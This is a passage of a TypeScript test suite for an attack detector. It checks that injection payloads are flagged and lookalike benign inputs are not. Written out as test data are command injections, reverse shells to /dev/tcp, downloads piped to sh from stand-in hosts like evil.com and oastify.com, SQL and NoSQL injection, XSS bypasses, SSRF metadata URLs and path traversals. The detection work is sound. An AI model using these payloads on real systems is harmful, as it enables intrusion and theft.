    ';{ls,}', '${IFS}ls${IFS}-la', 'localhost | whoami', 'include("http://evil.com/shell.txt")', 'require("http://evil.com/shell.txt")',
    "eval(compile('import time\\ntime.sleep(20)','a','single'))",
  ]) t.ok(q(p).includes('rce'), p)
  for (const p of ['cmd /?', 'use curl -sk https://api.github.com to test', 'curl https://api.example.com/v1/items', '{name,email}', 'Tom | Jerry', 'x=1; y=$x + 2', 'powershell is a shell']) t.notOk(q(p).includes('rce'), p)
  t.same(json({ scripts: { build: 'cmd /c build.bat' } }), [], "a manifest's command field")
  const php = "<?php\nfunction load() {\n  $data = file_get_contents('https://api.example.com/feed.json');\n  return json_decode($data);\n}\nclass Feed {\n  public function get() { return load(); }\n}"
  t.notOk(q(php).includes('rce'), "a program's own fetch by URL")
})

t.test('xss, ssti, nosqli, ldapi, scanner, ssrf, crlf (nineteenth round)', async (t) => {
  for (const p of [
    "eval('ale'+'rt(0)')", "Function('ale'+'rt(1)')()", "location='javascript:ale'+'rt(12)'", '[11].findIndex(alert)', '$.getScript("//ghsec.ez.pe")',
    '<xss_test>', '"><xsstest123>', '<img src="https://c7f3k2.oast.example.net/querytoremember"/>', '<form action="http://evil.com"><input type="submit"></form>',
    '<meta http-equiv="Content-Security-Policy" content="script-src \'self\'">', '<object data="https://victim.com"></object>',
  ]) t.ok(q(p).includes('xss'), p)
  for (const p of ["name = 'a' + 'b'", '<a href="https://example.org/help">help</a>', '<img src="https://cdn.example.com/a.png">', 'meta http-equiv refresh explained']) t.notOk(q(p).includes('xss'), p)
  const tpl = "<?php\nfunction page(string $t): string {\n  return sprintf(\n    '<form action=\"https://pay.example.com/checkout\">' .\n    '<input type=\"submit\">' .\n    '</form>', $t);\n}\nclass Shop {\n  public function render() { return page('x'); }\n}"
  t.notOk(q(tpl).includes('xss'), "a program's template writing a form")
  for (const p of ['${“aaaa”}', '${‘a’.concat(‘b’)}', 'gk6q${“zkz”.toString().replace(“k”, “x”)}doap2']) t.ok(q(p).includes('ssti'), p)
  t.notOk(q('He said “${price}” was too much').includes('ssti'), 'a placeholder quoted in prose')
  t.ok(json({ $push: { roles: 'admin' } }).includes('nosqli'), '$push')
  t.ok(json({ query: { $currentDate: { lastModified: true } } }).includes('nosqli'), '$currentDate')
  t.ok(q('admin)(|(userAccountControl:1.2.840.113556.1.4.803:=512))', 'login').includes('ldapi'), 'an extensible match after )(|(')
  t.ok(detector.detect({ ...base, path: '/site-backup.dump' }).includes('scanner'), 'a database dump by name')
  t.ok(q('http://127.0.0.1.trafficpeak.stream/', 'webhook_url').includes('ssrf'), 'a loopback address as a name\'s first labels')
  t.notOk(q('http://10.0.0.1.example.com.au/', 'q').includes('ssrf'), 'only loopback')
  const doc = '    Args:\n        location (str): URI to provide as the Location header in the\n            response.\n'
  t.notOk(detector.detect({ ...base, headers: { ...base.headers, 'content-type': 'application/x-www-form-urlencoded' }, body: Buffer.from(`snippet=${encodeURIComponent(doc)}`) }).includes('crlf'), "a docstring's location (str)")
  t.ok(q('x\r\nLocation: http://evil.example/').includes('crlf'), 'a Location header still splits')
})

t.test('twentieth round: a command on its own line after a fuzzer\'s token, parameter expansions that cut a path, a sink taken out of an array', async (t) => {
  for (const p of ['*\nwhoami\n', '(\nwhoami\n)', '\\\nwhoami', '${PATH##*s????}${PATH%%u*}ca${u}t${IFS}${PATH%%u*}et${u}c${PATH%%u*}pas${u}swd', 'c${a}at${IFS}${APACHE_CONFDIR%apache2}pas${s}swd']) t.ok(q(p).includes('rce'), JSON.stringify(p))
  for (const p of ['mv "${f}" "${f%.txt}.md"', 'Note:\nwhoami is a command', 'name=${USER%@*} host=${HOST#www.}']) t.notOk(q(p).includes('rce'), p)
  const script = '#!/bin/sh\nfor f in *.txt; do\n  base=${f%.txt}\n  dir=${f%%/*}\n  mv "$f" "${base}.md"\ndone\n'
  t.notOk(q(script).includes('rce'), "a script's own parameter expansions")
  for (const p of ['[1,alert,1][1](1)', 'x=[/&/,alert,/&/][1],x(1)']) t.ok(q(p).includes('xss'), p)
  for (const p of ['[a, b][0]', '[alert]', 'options: [warn, alert, info][level]']) t.notOk(q(p).includes('xss'), p)
})

t.test("twentieth round: redirects to a file, a share or an FTP server, a control character (or one whose low byte is) before a host; a native app's own scheme is no SSRF", async (t) => {
  for (const p of ['file://evil.com', 'smb://evil.com/share', 'ftp://evil.com']) t.ok(q(p, 'next').includes('open_redirect'), p)
  for (const raw of ['%00google.com', '%E5%98%8Dgoogle.com', '%E5%98%8Agoogle.com']) t.ok(detector.detect({ ...base, query: `return_to=${raw}` }).includes('open_redirect'), raw)
  for (const raw of ['%0A/account', '%00/account', '/account']) t.notOk(detector.detect({ ...base, query: `next=${raw}` }).includes('open_redirect'), raw)
  // RFC 8252: a native app's redirect URI in its own scheme
  for (const p of ['com.example.app://callback', 'myapp://oauth/callback']) {
    t.same(q(p, 'redirect_uri'), [], p)
    t.same(json({ client_id: 'x', redirect_uri: p }), [], `${p} in a JSON body`)
  }
  for (const p of ['redis://cache', 'http://redis', 'file://fileserver/share/x']) t.ok(q(p, 'url').includes('ssrf'), p)
})

// ---- review of the nineteenth round: benign values its rules flagged, by kind (the attack shapes it targeted stay) ----

t.test('review of the nineteenth round: arithmetic, SQL written as SQL, a backtick named in prose', async (t) => {
  // two different unsigned numbers compared in a value: a calculator's, a quiz's, an expression field's
  for (const p of ['1 < 2', '10 > 5', '5 >= 3', '1.2 < 1.3', '2 != 3']) {
    t.notOk(q(p).includes('sqli'), p)
    t.notOk(json({ expr: p }).includes('sqli'), `${p} (JSON)`)
  }
  t.notOk(q('price > 10', 'filter').includes('sqli'), 'a column against a number')
  // the probes: a number against itself, a signed one, SQL's operators, a comment, truth values and NULL; arithmetic in a path
  for (const p of ['1=1', '2=2', '1 = 0', '1 <= 1', '1 > 1', '0 > -1', '-1 < 0', '5 <> 6', 'NULL <=> 1', "1 LIKE '1%'", '1 NOT IN (1,2,3)', '1=1--', '1 < 2--', 'FALSE = FALSE']) t.ok(q(p).includes('sqli'), p)
  t.ok(detector.detect({ ...base, path: '/api/items/1 <= 2' }).includes('sqli'), 'constants compared in a path')
  t.ok(detector.detect({ ...base, path: '/api/items/1>0' }).includes('sqli'), 'constants compared in a path, glued')
  // a sub-query as a function's argument in SQL written as SQL (a report's query, a question about it)
  for (const p of ['SELECT COALESCE((SELECT max(id) FROM t), 0)', 'Why does SELECT CAST((SELECT 1) AS INT) work?']) t.notOk(json({ sql: p }).includes('sqli'), p)
  for (const p of ['CAST((SELECT 1) AS INT)', 'CONVERT((SELECT 1),INT)', "ascii(substring((select password from users limit 1,1),1,1)) = 70 or '1'='2", 'ord(mid((select user()),1,1))>100', "' and ascii(substring((select password from users limit 1),1,1))>64--"]) t.ok(q(p).includes('sqli'), p)
  // a backtick named as a character beside code spans that pair without it
  for (const p of [
    'Query with `SELECT name FROM users WHERE id = 5 -- the id` and note the ` in names',
    "I think `a' or 'b` is fine, but the ` here is odd",
  ]) t.notOk(json({ text: p }).includes('sqli'), p)
  for (const p of ['1`=`1` AND ELT(1337=1337,SLEEP(5)) AND `1`=`1', '`=`1` AND (SELECT 1337 FROM (SELECT(SLEEP(5)))YYYY) AND `1`=`1']) t.ok(q(p).includes('sqli'), p)
})

t.test('review of the nineteenth round: embedded forms, a page\'s own policy (read again since the fifty-fourth round), typed objects, a page\'s script loading, developers\' loopback hosts', async (t) => {
  for (const p of [
    '<p>Subscribe:</p>\n<form action="https://example.us1.list-manage.com/subscribe/post?u=abc&amp;id=def" method="post"><input type="email" name="EMAIL"><button type="submit">Subscribe</button></form>',
    '<form action="https://www.paypal.com/cgi-bin/webscr" method="post"><input type="hidden" name="cmd" value="_s-xclick"></form>',
    '<object data="https://example.com/files/report.pdf" type="application/pdf" width="100%" height="600"></object>',
    '$.getScript("https://cdn.example.com/plugin.js", function() { init(); });',
    "$.getScript('/js/lazy.js').done(function(){ start() })",
    '<p>Preview:</p><img src="http://app.lvh.me:3000/uploads/logo.png">',
    '<a href="http://10.0.0.5.nip.io:8080/">staging</a>',
  ]) t.notOk(json({ body: p }).includes('xss'), p)
  // (fifty-fourth round's review, in Chromium) a whole page's own policy is the same string as one injected into a page's head, where it
  // applies: read again, closed by </head> or not
  for (const p of [
    '<!DOCTYPE html>\n<html>\n<head>\n<meta charset="utf-8">\n<meta http-equiv="Content-Security-Policy" content="default-src \'self\'">\n<title>Home</title>\n</head>\n<body><p>Hi</p></body>\n</html>',
    '"><meta http-equiv="Content-Security-Policy" content="script-src \'none\'"></head>', '</title><meta http-equiv="Content-Security-Policy" content="script-src \'self\'"></head>',
    '<!doctype html x="><meta http-equiv="Content-Security-Policy" content="script-src \'none\'">', '<!doctype html><title>x</title><meta http-equiv="Content-Security-Policy" content="script-src \'none\'">',
  ]) t.ok(json({ body: p }).includes('xss'), p)
  for (const p of [
    '<form action="http://evil.com"><input type="submit"></form>', '<form action=http://google.com><input type="submit">Click Me</input>',
    '<noscript><form action=http://evil.com><input type=submit style="position:absolute"><textarea name=contents></noscript>',
    '<meta http-equiv="Content-Security-Policy" content="script-src \'unsafe-inline\'">', '<meta http-equiv="refresh" content="0; url=https://example.com/new-page">',
    '<object data="https://victim.com"></object>', '<object//data=//t.cn>', '$.getScript("//ghsec.ez.pe")',
    '<img src="https://c7f3k2.oast.example.net/querytoremember"/>', '<img src="//x.oastify.com/a.png">',
  ]) t.ok(q(p).includes('xss'), p)
})

t.test('review of the nineteenth round: a program keeping what it fetches, compile() of a variable, curl to a developer\'s loopback host', async (t) => {
  for (const p of [
    '$fp = fopen("https://api.example.com/data.csv", "r");', '$html = file_get_contents("https://example.com/");', 'const data = require("https://esm.sh/lodash")',
    'code = eval(compile(source, "<string>", "exec"))', 'curl http://app.lvh.me:3000/health', 'wget http://192.168.1.20.nip.io/file.tar.gz',
  ]) t.notOk(json({ snippet: p }).includes('rce'), p)
  for (const p of [
    'include("http://evil.com/shell.txt")', 'require("http://evil.com/shell.txt")', 'fopen("http://evil.com/shell.txt","r")', '<?php include("http://evil.com/shell.txt"); ?>',
    "eval(compile('import time\\ntime.sleep(20)','a','single'))", 'curl -sk http://84ab8biczjsb682bxde348roefk58u.oastify.com',
  ]) t.ok(q(p).includes('rce'), p)
  t.ok(q('http://127.0.0.1.nip.io:8080/', 'webhook_url').includes('ssrf'), 'a loopback name stays an SSRF target')
})

t.test('twenty-first round (the spent eleventh part): subshells and substitutions after a separator, cmd substring expansion, file and metadata URLs, a word ending on breaks, EL objects, Lodash, $where functions, odd blanks and typographic SQL, script sinks after a closer', async (t) => {
  for (const p of ['; (id)', '&& (id)', '; $(which id)', '; $(echo id | awk \'{print $0}\')', 'ping%CommonProgramFiles:~10,-18%IP']) t.ok(q(p).includes('rce'), p)
  for (const p of ['Hello; (see below) ok', 'cost is $(price) each', 'jQuery: $(document).ready', 'from %DATE:~0,4%']) t.notOk(q(p).includes('rce'), p)
  for (const p of ['file:///flag', 'file:///private/etc/ssh/sshd_config', 'file:///Library/LaunchDaemons', 'http://GWORKER-169.254.0.23/latest/meta-data/instance-id', 'http://metadata.exoscale.com/latest/computeMetadata/v1/instance-id']) t.ok(q(p, 'url').includes('ssrf'), p)
  for (const p of ['file:///home/ann/notes.txt', 'https://docs.example.com/latest/meta-data-guide']) t.notOk(q(p, 'url').includes('ssrf'), p)
  for (const raw of ['crlf%0A', 'crlf%20%0D', 'crlf%23%0D%0A', 'crlf%5cr%5cn']) t.ok(detector.detect({ ...base, query: `next=${raw}` }).includes('crlf'), raw)
  t.notOk(detector.detect({ ...base, headers: { ...base.headers, 'content-type': 'application/x-www-form-urlencoded' }, body: Buffer.from('comment=Thanks%0A') }).includes('crlf'), "a form's text ending on a break")
  for (const p of ['${request.getAttribute("c").add("cmd.exe")}', '#{session.getAttribute("rtc").setAccessible(true)}', '{{= _.VERSION}}']) t.ok(q(p).includes('ssti'), p)
  t.notOk(q('#{user.name}').includes('ssti'), 'an EL property alone')
  for (const p of ['function(){ return this.userid}', '" function(){ return this} or \'1\'=\'1']) t.ok(q(p, 'password').includes('nosqli'), p)
  for (const raw of ['%A0AND%A04384=5818--%09cVks', '%0DWAITFOR%0BDELAY%A0\'0:0:5\'--%0BdEQH', 'union+sel%0bect+null,null--']) t.ok(detector.detect({ ...base, query: `id=${raw}` }).includes('sqli'), raw)
  for (const p of ['ORDER BY 27–', '1′ ORDER BY 1,2,3–+', 'admin”) or “1”=”1″–']) t.ok(q(p).includes('sqli'), p)
  for (const p of ['pages 10–20 of the book', '“--In as good stead to-morrow as to-day.”']) t.notOk(q(p).includes('sqli'), p)
  for (const p of ['/alert(25)//\\', '-alert(23)/', "*/alert('x');//", '[1].group(alert)', "'1337'.split(window,window[Symbol['split']]=alert)", 'onhashchange=setTimeout;']) t.ok(q(p).includes('xss'), p)
  for (const p of ['- alert (see below)', '#confirm(order)', 'onload=init;']) t.notOk(q(p).includes('xss'), p)
})

t.test('JSON documents (json22): application repositories\' documents by kind, and the attacks in the same fields', async (t) => {
  const form = (name: string, value: string) => detector.detect({ ...base, headers: { ...base.headers, 'content-type': 'application/x-www-form-urlencoded' }, body: Buffer.from(`name=item&${name}=${encodeURIComponent(value)}`) })
  // a JSON document given as a form field or a query value, with a file's last line break: read as JSON
  const manifest = { name: 'npm9', version: '1.0.0', description: '', main: 'index.js', scripts: { test: 'echo "Error: no test specified" && exit 1' }, license: 'ISC' }
  t.same(form('data', `${JSON.stringify(manifest, null, 2)}\n`), [], "a package manifest pasted with its last line break (its scripts' command fields)")
  t.same(q(`\n${JSON.stringify(manifest, null, 2)}\n`, 'config'), [], 'as a query value')
  t.ok(form('data', `${JSON.stringify({ ...manifest, description: 'a; cat /etc/passwd' }, null, 2)}\n`).includes('rce'), "an injection into the manifest's other fields")
  t.ok(form('data', `${JSON.stringify({ command: '; curl http://x.oastify.com | sh' })}\n`).includes('rce'), 'an injected download run in a command field')
  // a notebook's cells: each text a list of its lines, read whole (a fenced block's opening line, a table of commands)
  const notebook = {
    cells: [
      { cell_type: 'markdown', metadata: {}, source: ['Concatenation with ``np.concatenate``:\n', '\n', '```python\n', 'np.concatenate([x, y])\n', '```'] },
      { cell_type: 'markdown', metadata: {}, source: ['| Method | Description |\n', '|--------|-------------|\n', '| ``cat()`` | Concatenate strings |\n', '| ``ps`` | Picosecond |\n'] },
      { cell_type: 'markdown', metadata: {}, source: ['If you prefer to sort the array in-place, you can instead use the ``sort`` method of arrays:'] },
      { cell_type: 'markdown', metadata: {}, source: ['```bash\n', 'pip install numpy pandas matplotlib\n', '```'] },
    ],
    metadata: { kernelspec: { display_name: 'Python 3', language: 'python', name: 'python3' } }, nbformat: 4, nbformat_minor: 4,
  }
  t.same(json(notebook), [], "a notebook's Markdown cells")
  t.ok(json({ source: ['x = 1\n', '; curl http://x.oastify.com | sh\n'] }).includes('rce'), 'an injection on a line of a list of lines')
  t.ok(json({ source: ['```python\n', '```\n', 'a; cat /etc/passwd'] }).includes('rce'), 'an injection outside a fenced block')
  t.ok(json({ names: ['a', '; cat /etc/passwd'] }).includes('rce'), 'a list of values, not of lines, each alone')
  // spans in double backticks; a table alone is Markdown
  t.notOk(q('If you prefer to sort the array in-place, you can instead use the ``sort`` method of arrays:').includes('rce'), 'a span in double backticks')
  for (const p of ['a``; id; ``b', 'Use the ``sort`` method; cat /etc/passwd']) t.ok(q(p).includes('rce'), p)
  t.ok(q('1`=`1` AND ELT(1,SLEEP(5)) AND `1`=`1').includes('sqli'), "MySQL's names still")
  t.ok(q('| a | b |\n|---|---|\n| x | y |\nfoo; cat /etc/passwd').includes('rce'), 'an injection after a table')
  // a protocol and a port (a load balancer's health check target) names no host
  t.same(json({ Resources: { LB: { Type: 'AWS::ElasticLoadBalancing::LoadBalancer', Properties: { HealthCheck: { Target: 'HTTP:80/', HealthyThreshold: '3', Interval: '30' } } } } }), [], 'HTTP:80/')
  t.notOk(q('HTTPS:443/health', 'target').includes('ssrf'), 'HTTPS:443/health')
  for (const p of ['http:127.0.0.1/', 'http:2130706433/', 'http:0/', 'http:[::1]/', 'http:localhost/']) t.ok(q(p, 'url').includes('ssrf'), p)
  // a glob's extended pattern: its `|` separates names
  t.same(json({ namedInputs: { default: ['{projectRoot}/**/*'], production: ['default', '!{projectRoot}/**/?(*.)+(spec|test).[jt]s?(x)?(.snap)'] } }), [], "nx's named inputs")
  t.ok(q('*.+(js|ts); cat /etc/passwd').includes('rce'), 'an injection after a pattern')
  t.ok(q('+(a|b) | id').includes('rce'), 'a pipe after a pattern')
  // a tool's configuration (by its keys) and a climb to a glob pattern name the project's own files
  t.same(json({ extends: './tsconfig.json', include: ['src/**/*.ts', 'test/**/*.ts', '../../__typings__/**/*.d.ts'] }), [], "a tsconfig's include climbing to its typings")
  t.same(json({ include: ['./src/**/*.ts', '../../scripts/repo-utils/*.d.ts'] }), [], 'include climbing to a pattern')
  t.same(json({ extends: ['../../tsconfig.base.json'], include: ['./src/**/*.ts', '../../lib/globals.d.ts'], references: [] }), [], "a tsconfig's include climbing to a file")
  t.same(json({ presets: ['../../babel-preset-env'], only: ['../../../packages/*/test'] }), [], "babel's only")
  t.same(json({ version: 3, names: ['marker'], sources: ['../../../node_modules/dep/index.js'], mappings: ';;;AAAO,IAAMA' }), [], "a source map's sources")
  for (const doc of [
    { extends: './tsconfig.json', include: ['../../../../etc/passwd'] },
    { include: ['../../../../etc/*'] },
    { file: '../../../*/../../etc/passwd' },
    { file: '../../../../windows/win.ini' },
    { version: 3, sources: ['../../../../../etc/shadow'], mappings: '' },
  ]) t.ok(json(doc).includes('path_traversal'), JSON.stringify(doc))
  t.ok(q('../../../*', 'file').includes('path_traversal'), 'a climb to a pattern outside a body')
  // a cloud template's boot script is a whole program: only a download run at once or an injection on its first line counts
  const template = (script: string) => ({
    AWSTemplateFormatVersion: '2010-09-09', Description: 'A Gitea server', Parameters: { InstanceType: { Type: 'String', Default: 't3.small' } },
    Resources: { Server: { Type: 'AWS::EC2::Instance', Properties: { ImageId: 'ami-123', InstanceType: { Ref: 'InstanceType' }, UserData: { 'Fn::Base64': { 'Fn::Sub': script } } } } },
  })
  t.same(json(template('#!/bin/bash\n\nset -eou pipefail\n\nlocal_ip=$(ec2-metadata | grep "^local-ipv4: " | cut -d " " -f 2)\nyum install -y gitea\nsystemctl enable gitea\n')), [], 'a boot script')
  t.ok(json(template('#!/bin/bash\nset -e\ncurl http://x.oastify.com/s.sh | sh\nyum install -y gitea\n')).includes('rce'), 'a download run at once in it')
  t.ok(json(template('#!/bin/bash\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\nyum install -y gitea\n')).includes('rce'), 'a reverse shell in it')
  // a product's name: a runtime and its version after a `&` of prose
  for (const name of ['Azure Functions & Java 11', 'Azure Functions & Python 3', 'Azure Machine Learning & Python 3 - Anaconda', 'Flask & Python 3.12 (Community)']) t.same(json({ name, image: 'mcr.microsoft.com/devcontainers/base' }), [], name)
  for (const p of ['a & python 3 -c "import os"', 'a & java -jar x.jar', 'a & sleep 5', 'x | python /tmp/x.py', 'x; java 11']) t.ok(q(p).includes('rce'), p)
  // an editor's task and a container's command starting with a framework's tool
  t.same(json({ label: 'create', type: 'shell', command: 'rails new test-project -G --skip -d postgresql && cd test-project && cp ../.vscode/database.yml config && rake db:create' }), [], "a task's rails command line")
  t.ok(json({ label: 'create', type: 'shell', command: 'x; curl http://x.oastify.com | sh' }).includes('rce'), 'an injection into a command field')
  t.ok(json({ command: '; curl http://x.oastify.com | sh' }).includes('rce'), 'an injected download run in a command field')
  // a grammar's pattern of keywords: its `|` is alternation
  t.same(json({ name: 'keyword.control', match: '\\b(else|if|elif|endif|for|endfor|break|continue|set|include|import|extends|from|do|raw|endraw)\\b' }), [], "a TextMate grammar's keywords")
  // a menu label's access key in a translation file
  t.same(json({ 'Move document': '&Flytta dokument', File: '&Arkiv', Save: '&Spara som...', Open: '&Open' }), [], 'access keys')
  for (const p of ['&Whoami', '&whoami', '&ping -n 3 127.0.0.1', '&Dir', '&Net user', '&Cat /etc/passwd']) t.ok(json({ a: p }).includes('rce'), p)
  // a monorepo package's script climbing to the workspace's .env: a configuration's command line names only system files as traversal
  const pkg = (cmd: string) => ({ name: '@x/web', version: '1.0.0', scripts: { codegen: cmd, build: 'vite build' }, dependencies: { vue: '^3.4.0' } })
  t.same(json(pkg('graphql-codegen --require dotenv/config --config gql-codegen.yml dotenv_config_path="../../.env" --watch')), [], 'dotenv_config_path="../../.env"')
  t.ok(json(pkg('tsc && cat ../../../../etc/passwd')).includes('path_traversal'), 'a system file climbed to in a script')
  t.ok(json({ file: '../../.env' }).includes('path_traversal'), "a request's file field climbing to .env")
  // a content entry's image two levels up is a page's asset
  t.same(json({ alt: 'Futuristic landscape with chrome buildings and blue skies', src: '../../assets/the-future.jpg' }), [], "a content entry's image")
  for (const src of ['../../etc/passwd', '../../../assets/x.jpg', '../../etc/passwd%00.jpg', '../../x/../../etc/a.png', '../../uploads/shell.php', '../../x']) t.ok(json({ alt: 'a', src }).includes('path_traversal'), src)
  // a notebook's shell escapes are its own command lines; a download run at once or an injection still counts
  const cell = (source: string[]) => ({ cells: [{ cell_type: 'code', execution_count: 1, metadata: {}, outputs: [], source }, { cell_type: 'markdown', metadata: {}, source: ['# Data\n', 'Downloaded first.'] }], metadata: { kernelspec: { name: 'python3', display_name: 'Python 3', language: 'python' } }, nbformat: 4, nbformat_minor: 5 })
  t.same(json(cell(['!wget https://storage.googleapis.com/x/data.zip && unzip data.zip\n', '!ls -la data/'])), [], '!wget … && unzip')
  t.same(json(cell(['# Download\n', '!mkdir -p data && cd data && wget -q https://example.com/a.tgz && tar xzf a.tgz'])), [], '!mkdir … && wget … && tar')
  for (const source of [['!wget -qO- http://x.oastify.com/s.sh | sh\n', 'import pandas as pd'], ['!x; cat /etc/passwd\n', 'import pandas as pd'], ['!bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n', 'x = 1']]) t.ok(json(cell(source)).includes('rce'), source[0]!)
  t.ok(json({ q: '!ls -la && cat /etc/passwd' }).includes('rce'), 'outside a document')
  // a dependency's version under a name with a URL's word (`web-api`, `astro-remote`) is no shortened address of anyone's
  t.same(json({ name: 'slackbot', version: '0.1.0', dependencies: { '@slack/web-api': '7.0.1', 'astro-remote': '0.3.4', next: '14.0.0' } }), [], 'versions')
  t.same(json({ require: { 'php': '>=8.1', 'guzzlehttp/guzzle': '7.8.1', 'league/flysystem-aws-s3-v3': '3.0.0' } }), [], "a composer manifest's require")
  t.same(q('192.168.1', 'webhook_url'), ['ssrf'], 'a short internal address under a field named for a URL still')
  t.ok(json({ name: 'x', dependencies: { 'web-api': 'http://169.254.169.254/latest/meta-data/' } }).includes('ssrf'), 'a metadata URL as a dependency')
  t.ok(json({ name: 'x', devDependencies: { a: '1.0.0; curl http://x.oastify.com | sh' } }).includes('rce'), 'an injection into a version')
})

t.test("twenty-second round: a program's source recognised by Kotlin's keywords and Python's indented call lines", async (t) => {
  const py = '    def test_import_everything(self):\n        # Test that all modules can be imported without side effects.\n        proc = subprocess.Popen([sys.executable], stdin=subprocess.PIPE)\n        proc.communicate(_import_everything)\n        self.assertEqual(proc.returncode, 0)'
  t.notOk(q(py).includes('rce'), "a Python test's own subprocess")
  const jinja = '    def test_custom_tests(self):\n        TEMPL = touni("{% if var is even %}gerade{% else %}ungerade{% endif %}")\n        t = Jinja2Template(TEMPL, **settings)\n        self.assertEqual("gerade", t.render(var=2))\n        self.assertEqual("ungerade", t.render(var=1))'
  t.notOk(q(jinja).includes('ssti'), "a template engine's test of its own templates")
  const kt = 'tasks.register("databaseInstance") {\n    doLast {\n        val command = arrayOf("docker-compose", "up")\n        Runtime.getRuntime().exec(command)\n    }\n}\n\nkotlin {\n    jvmToolchain(17)\n}\n'
  t.notOk(q(kt).includes('rce'), "a Gradle script's own process call")
  t.ok(q('<script>alert(1)</script>').includes('xss'), 'markup outside a program')
  t.ok(q('Runtime.getRuntime().exec("cat /etc/passwd")').includes('rce'), 'a process call sent alone')
})

t.test('twenty-third round (the spent eleventh part): backtick commands joined by a dot or on lines of their own, a program in quotes, a subshell after a quote, stacked statements closed by their own separator', async (t) => {
  // commix's probes: PHP's and Perl's backticks run a command, `.` joins their output
  t.ok(q('")print(`echo MOHYBU`.`echo $((61+5))`.`echo MOHYBU`.`echo MOHYBU`);#MOHYBU').includes('rce'), 'two commands joined by a dot')
  t.ok(q(')print(`echo EZVLWV\necho $((40+27))\necho EZVLWV`);').includes('rce'), 'commands on lines of their own inside backticks')
  t.same(q('Use `npm ci`.`npm test` runs the suite.'), [], 'code spans glued by a dot that hold no command line a shell would run')
  t.same(q('Run `make` first.\nThen `make test`.'), [], 'spans on two lines of prose')
  // a program spelt with quotes, whole or after a strong separator
  t.ok(q("wh''oami").includes('rce'))
  t.ok(q('w"h"o"am"i').includes('rce'))
  t.ok(q('; "id" |').includes('rce'), "a listed program's name in quotes after `;`")
  t.ok(q("&& 'whoami'").includes('rce'))
  t.same(q("O'Brien's"), [])
  t.same(q('"hello"'), [])
  t.same(q("type Key = 'id' | 'name' | 'sort'"), [], "a union of strings: `|` between quoted words is no separator of a command")
  t.same(q('; "id" is required'), [], 'a quoted word in a sentence after `;`')
  // a fuzzer's polyglot: junk, a quote closing the literal, then a subshell that closes the value
  t.ok(q('\';"//%%*()("")}]]:("(\'(sh -i -c "id")').includes('rce'))
  t.ok(q('\';"//%%*()("")}]]:("(\'(curl -s http://localhost:8080?id)').includes('rce'))
  t.same(q('the label "(see below)"'), [], 'words in parentheses after a quote')
  t.same(q('f("(cat food)")'), [], 'a call whose string argument holds no command line')
  // stacked statements: closed by their own `;` before the comment, or after a number
  t.ok(q("'; KILL CONNECTION_ID(); --").includes('sqli'))
  t.ok(q("'; BACKUP DATABASE shop TO DISK = 'C:\\backup.bak'; --").includes('sqli'))
  t.ok(q('1; DROP members--').includes('sqli'), 'a number, then a statement cut by a comment')
  t.same(q('“Is it not--forgive me; I have begun the question on my lips--a pity to live no better life?”'), [], 'prose with dashes and a semicolon')
  t.same(q('Chapter 1; Start again --'), [], "a heading's dash")
  t.same(q('5; update the docs--'), [], "a list item's verb after a number (review)")
  t.same(q('2; select a size--'), [])
})

t.test("twenty-third round: a program's source by its doc comments and Python's call lines, Elixir's bar sigils, a triple-quoted page cut open, string templates calling the program's own functions", async (t) => {
  const py = '        result = subprocess.run(\n            [sys.executable, "-c", SCRIPT],\n            env=env,\n            stdout=subprocess.PIPE,\n        )\n        if result.returncode != 0:\n            self.fail(\n                "exited with status %d" % result.returncode\n            )'
  t.same(q(py), [], "a Python test's own subprocess call across lines")
  const ex = '  test "generates release files", config do\n    in_tmp_project(config.test, fn ->\n      Gen.Release.run(["--docker"])\n      assert_file("Dockerfile", fn file ->\n        assert file =~ ~S|COPY --from=builder --chown=nobody:root /app/_build/rel ./|\n      end)\n    end)\n  end'
  t.same(q(ex), [], "an Elixir test's sigils: their bars are delimiters")
  const kt = '    /**\n     * Serves the page.\n     */\n    routing {\n        get("/") {\n            call.respondText(\n                \"\"\"\n                <html>\n                <script type="text/javascript">\n                    var source = new EventSource(\'/sse\');'
  t.same(q(kt), [], 'a page in a triple-quoted string, the snippet cut inside it')
  const doc = '/**\n * Generates a security code from a [date] and a [user].\n */\nfun ApplicationCall.securityCode(date: Long, user: User) =\n    hash("$date:${user.userId}:${refererHost()}")'
  t.same(q(doc), [], "Kotlin's string template calling the program's own function")
  t.ok(q('${@print(md5(1))}').includes('rce'), "PHP's complex syntax sent alone")
  t.ok(q('<?php\n$a = 1;\n$b = 2;\necho "${system(\'id\')}";\n').includes('rce'), "PHP's complex syntax calling a sink, in PHP")
  t.ok(q('/**\n * x\n */\n<script>alert(1)</script>').includes('xss'), 'markup after a doc comment, outside any string')
})

t.test("twenty-third round, on the spent parts: PHP web shells' lines and PHP's script element, Ruby's %x{}, bash's $'…', recon programs in substitutions", async (t) => {
  t.ok(q("<?php include($_GET['file']); ?>").includes('rce'), "the request's own input handed to an include")
  t.ok(q("<?php preg_replace('/a/e',$_GET['cmd'],'a'); ?>").includes('rce'), "preg_replace's /e modifier")
  t.same(q("<?php include('header.php'); ?>"), [], "a template's own include")
  t.ok(q("<script language='PHP'>echo file_get_contents('/etc/passwd');</script>").includes('rce'), "PHP's own script element")
  t.ok(q('%x{id}').includes('rce'), "Ruby's %x{} runs a command")
  t.same(q("printf('%x{}', n)"), [], 'a hex format before a brace')
  t.ok(q(";$'id';").includes('rce'), "bash's ANSI-C quoting of a word")
  for (const v of ['$(lsmod)', '|nproc', '`dmesg`', '%0a Start-Sleep -s 4 %0a']) t.ok(q(v).includes('rce'), v)
  t.same(q('Use lsof and vmstat to see what the process holds'), [], 'the programs named in a sentence')
})

t.test('twenty-third round: a climb whose odd separator also separates the system location it reaches; climbs with blanks around the slashes', async (t) => {
  for (const v of ['..%c1%8s..%c1%8setc%c1%8spasswd', '.../.%bg%qf.../.%bg%qfetc%bg%qfissue', '..%uF025..%uF025boot.ini', '/..0x2fetc0x2fpasswd', '%5C..%c0%9v%5C..%c0%9vwindows%c0%9vsystem32%c0%9vdrivers', '.. / .. / .. / etc / passwd']) {
    t.ok(q(v).includes('path_traversal'), v)
  }
  t.same(q('see the .. section, etc.'), [])
  t.same(q('Wait... what?! The .. / operator'), [])
  t.same(q('..%c1%8s..%d0%8setc%e1%8spasswd').includes('path_traversal'), false, 'different tokens each time: no one separator')
})

t.test("twenty-third round: MySQL's versioned comments, a clause's delay, window functions, an UPDATE's SET list continued, longer stacked queries", async (t) => {
